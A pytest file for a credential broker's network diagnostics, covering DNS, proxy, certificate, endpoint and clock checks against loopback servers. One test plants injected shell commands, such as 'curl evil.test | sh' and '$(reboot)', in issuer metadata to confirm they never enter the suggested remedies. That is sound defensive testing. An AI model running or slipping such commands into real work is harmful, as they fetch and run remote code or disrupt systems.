# The way to a provider, broken in one place: name, port, proxy, certificate, answer, clock. The servers are real, on
# loopback, and no secret is sent to them.
from __future__ import annotations

import datetime
import json
import socket
import time
from collections.abc import AsyncGenerator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager
from email.utils import formatdate
from pathlib import Path

import pytest
import trustme

from brokerd.config.providers import read_provider
from brokerd.config.recipes import Recipes
from brokerd.core.exchange.steps import Response
from brokerd.doctor import network
from brokerd.doctor.finding import Finding
from brokerd.edge.http.dial import AddressInfo
from brokerd.edge.system.clock import SystemClock
from tests.unit.edge.http.fixtures import CA, SECRET, ca_file, server_tls
from tests.unit.edge.http.servers import Peer, Script, Server, always_ok, answering, proxying, serving

Told = tuple[str, str, str, str]  # check, level, part of what was found, part of the remedy


async def asked(url: str, *, issuer: bool = False, **more: object) -> list[Finding]:
    found: list[Finding] = []
    raw = {"dialect": "oauth2", "issuer" if issuer else "token_url": url, **more}
    settings = read_provider("corp", Recipes(Path("/nowhere")), None, raw)
    await network.ask(settings, {}, SystemClock(), found.append)
    return found


def is_told(found: list[Finding], *expected: Told) -> None:
    troubles = [each for each in found if each.level != "ok"]
    assert [(each.check, str(each.level)) for each in troubles] == [told[:2] for told in expected], found
    for each, (_, _, words, remedy) in zip(troubles, expected, strict=True):
        assert words in each.found
        assert remedy in (each.remedy or "")


async def test_a_provider_that_is_well(tmp_path: Path) -> None:
    async with serving(always_ok, tls=server_tls("localhost")) as server:
        found = await asked(f"https://localhost:{server.port}/token", ca_file=str(ca_file(tmp_path)))
    assert [(each.check, each.level) for each in found] == [("dns", "ok"), ("tls", "ok"), ("endpoint", "ok")]
    assert found[1].found.endswith("its certificate ends in 1460 days")


async def test_a_provider_that_is_never_asked_is_not_looked_for() -> None:
    found: list[Finding] = []
    settings = read_provider("keys", Recipes(Path("/nowhere")), None, {"dialect": "static"})
    await network.ask(settings, {}, SystemClock(), found.append)
    assert found == []


async def test_nothing_that_is_sent_is_a_secret(tmp_path: Path) -> None:
    async with serving(always_ok) as server:
        await asked(f"{server.url}/token")
        assert [request.split(b"\r\n")[0] for request in server.requests] == [b"GET /token HTTP/1.1"]
        fields = {line.split(b":")[0].lower() for line in server.requests[0].split(b"\r\n")[1:] if line}
        assert fields == {b"host", b"user-agent", b"accept-encoding"}


def lookup(error: int) -> object:
    def fails(_host: str, _port: int) -> Sequence[AddressInfo]:
        raise socket.gaierror(error, "as the resolver says")

    return fails


@pytest.mark.parametrize(
    ("error", "words"),
    [(socket.EAI_NONAME, "no such host"), (socket.EAI_AGAIN, "the name servers do not answer")],
)
async def test_a_name_that_leads_nowhere(monkeypatch: pytest.MonkeyPatch, error: int, words: str) -> None:
    monkeypatch.setattr(network, "system_lookup", lookup(error))
    found = await asked("https://idp.test/token")
    is_told(found, ("dns", "problem", f"idp.test:443: {words}", "getent ahosts idp.test"))


async def test_a_port_where_nobody_listens() -> None:
    async with serving(always_ok) as server:
        url = server.url
    is_told(await asked(url), ("connection", "problem", "connection refused", f"curl -sv -o /dev/null {url}/"))


async def test_plain_http_that_is_not_allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    async with serving(always_ok) as server:
        monkeypatch.setattr("brokerd.edge.http.connection.TcpStream.reaches_loopback", False)
        found = await asked(server.url)
    is_told(found, ("connection", "problem", "plain http:// goes to loopback", "use https://, or set insecure_http"))


def soon(*names: str) -> object:
    now = datetime.datetime.now(datetime.UTC)
    made = CA.issue_cert(*names, not_after=now + datetime.timedelta(days=3, hours=1))
    context = server_tls(*names)
    made.configure_cert(context)
    return context


@pytest.mark.parametrize(
    ("tls", "level", "words", "remedy"),
    [
        (lambda: server_tls("127.0.0.1", expired=True), "problem", "the certificate expired on", "openssl s_client"),
        (lambda: server_tls("127.0.0.1", early=True), "problem", "is not valid before", "is the clock right?"),
        (lambda: server_tls("127.0.0.1", ca=trustme.CA()), "problem", "an unknown authority", "name it with ca_file"),
        (lambda: server_tls("else.test"), "problem", "is for else.test, not 127.0.0.1", "openssl s_client -connect"),
        (lambda: soon("127.0.0.1"), "warning", "ends in 3 days", "ask its operator"),
    ],
)
async def test_a_certificate_that_is_not_as_it_should_be(
    tmp_path: Path, tls: object, level: str, words: str, remedy: str
) -> None:
    async with serving(always_ok, tls=tls()) as server:  # type: ignore[operator]
        found = await asked(f"https://127.0.0.1:{server.port}", ca_file=str(ca_file(tmp_path)))
    is_told(found, ("tls", level, words, remedy))


async def test_a_port_for_plain_http() -> None:
    async def speaks_first(peer: Peer) -> None:
        await peer.say(head("400 No"))
        await peer.hears_the_end()

    async with serving(speaks_first) as server:
        found = await asked(f"https://127.0.0.1:{server.port}")
    is_told(found, ("tls", "problem", "it does not speak TLS", "is this a port for http://?"))


@asynccontextmanager
async def a_proxy(answer: bytes | None) -> AsyncGenerator[Server, None]:
    """`answer`: what it says to a CONNECT; None: it leads to a provider for idp.test that is well."""
    async with AsyncExitStack() as stack:
        target = await stack.enter_async_context(serving(always_ok, tls=server_tls("idp.test")))
        given = {} if answer is None else {"answer": answer}
        yield await stack.enter_async_context(proxying(target.port, **given))


@pytest.mark.parametrize(
    ("answer", "words", "remedy"),
    [
        (b"HTTP/1.1 407 No\r\n\r\n", "refuses our login (407)", "HTTPS_PROXY of the unit"),
        (b"HTTP/1.1 403 No\r\n\r\n", "it refuses to connect to idp.test:443 (403)", "change proxy"),
        (b"HTTP/1.1 502 No\r\n\r\n", "it cannot reach idp.test:443 (502)", "curl -sv -o /dev/null https://idp.test/"),
    ],
)
async def test_a_proxy_that_does_not_lead_there(tmp_path: Path, answer: bytes, words: str, remedy: str) -> None:
    async with a_proxy(answer) as proxy:
        found = await asked("https://idp.test", proxy=f"http://me:{SECRET}@127.0.0.1:{proxy.port}")
    is_told(found, ("proxy", "problem", words, remedy))
    assert SECRET not in str(found)


async def test_a_proxy_that_leads_there(tmp_path: Path) -> None:
    async with a_proxy(None) as proxy:
        found = await asked("https://idp.test", proxy=f"127.0.0.1:{proxy.port}", ca_file=str(ca_file(tmp_path)))
    assert [each.check for each in found] == ["proxy", "tls", "endpoint"]
    is_told(found)


async def test_a_proxy_that_is_dead() -> None:
    async with serving(always_ok) as gone:
        port = gone.port
    found = await asked("https://idp.test", proxy=f"http://127.0.0.1:{port}")
    is_told(found, ("proxy", "problem", f"proxy 127.0.0.1:{port}: connection refused", "HTTPS_PROXY of the unit"))


def head(status: str, *fields: str) -> bytes:
    return "\r\n".join((f"HTTP/1.1 {status}", *fields, "Content-Length: 0", "", "")).encode()


async def hears_and_is_silent(peer: Peer) -> None:
    await peer.hears_the_end()


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        (answering(head("405 No")), []),
        (answering(head("404 No")), []),
        (answering(head("503 No")), [("endpoint", "warning", "answers 503: the provider has a fault", "curl -v http")]),
        (
            answering(head("302 Elsewhere", "Location: /x")),
            [
                (
                    "endpoint",
                    "warning",
                    "a redirect, which brokerd does not follow",
                    "then write it into the configuration",
                )
            ],
        ),
        (answering(b"SSH-2.0-x\r\n\r\n"), [("endpoint", "problem", "", "curl -v http://127.0.0.1")]),
        (hears_and_is_silent, [("endpoint", "problem", "timed out after 0.2 s", "curl -v")]),
    ],
)
async def test_what_answers_there(monkeypatch: pytest.MonkeyPatch, script: Script, expected: list[Told]) -> None:
    monkeypatch.setattr(network, "PATIENCE", 0.2)
    async with serving(script) as server:
        is_told(await asked(f"{server.url}/token"), *expected)


@pytest.mark.parametrize(
    ("ahead", "expected"),
    [
        (0, []),
        (-60, [("clock", "warning", "s behind the provider's", "timedatectl status")]),
        (7_200, [("clock", "problem", "s ahead of the provider's", "timedatectl status")]),
    ],
)
async def test_a_clock_that_is_not_the_providers(ahead: float, expected: list[Told]) -> None:
    date = f"Date: {formatdate(time.time() - ahead, usegmt=True)}"
    async with serving(answering(head("400 No", date))) as server:
        is_told(await asked(server.url), *expected)


async def test_an_issuer_without_metadata() -> None:
    async with serving(answering(*[head("404 No")] * 3)) as server:
        found = await asked(server.url, issuer=True)
    is_told(found, ("endpoint", "problem", "answered 404 and ", "check issuer, or write token_url if the server has"))


def naming(endpoint: list[str]) -> Script:
    """An issuer whose metadata names itself, and then the token endpoint."""

    async def script(peer: Peer) -> None:
        while request := await peer.request():
            issuer, token_endpoint = endpoint
            body = json.dumps({"issuer": issuer, "token_endpoint": token_endpoint}) if b".well-known" in request else ""
            kind = "Content-Type: application/json"
            await peer.say(f"HTTP/1.1 200 OK\r\n{kind}\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())

    return script


async def test_where_the_issuers_metadata_leads() -> None:
    named: list[str] = []
    async with serving(naming(named)) as server:
        named += [server.url, f"{server.url}/t"]
        found = await asked(server.url, issuer=True)
    is_told(found)
    assert found[-1].found == f"{server.url}/t answers 200"


async def test_the_metadata_of_a_public_issuer_leads_to_no_private_address(monkeypatch: pytest.MonkeyPatch) -> None:
    named: list[str] = []
    monkeypatch.setattr("brokerd.edge.http.connection.TcpStream.reaches_public", True)
    async with serving(naming(named)) as server, serving(always_ok) as private:
        named += [server.url, private.url]
        found = await asked(server.url, issuer=True)
        is_told(found, ("endpoint", "warning", "its address is not public", "brokerctl trust corp"))
        assert private.peers == []


async def test_what_an_issuer_says_is_no_remedy() -> None:
    named: list[str] = []
    async with serving(naming(named)) as server:
        named += [f"{server.url}; curl evil.test | sh", f"{server.url}/t"]
        found = await asked(server.url, issuer=True)
        named[:] = [server.url, f"{server.url}/t?$(curl${{IFS}}evil.test)"]
        found += await asked(server.url, issuer=True)
    assert ["evil" in each.found for each in found].count(True) >= 2
    assert not [each for each in found if "evil" in (each.remedy or "")]
    url = "https://idp.test/t?$(reboot)"
    now = SystemClock().now()
    failing = network.of_answer(Response(500, (), b"", now, now), url)
    assert failing.remedy == f"curl -v '{url}'"


async def test_a_place_besides_the_token_endpoint() -> None:
    async with serving(always_ok) as gone:
        revocation = gone.url
    async with serving(always_ok) as server:
        found = await asked(server.url, revocation_url=revocation)
    is_told(found, ("connection", "problem", "connection refused", f"{revocation}/"))
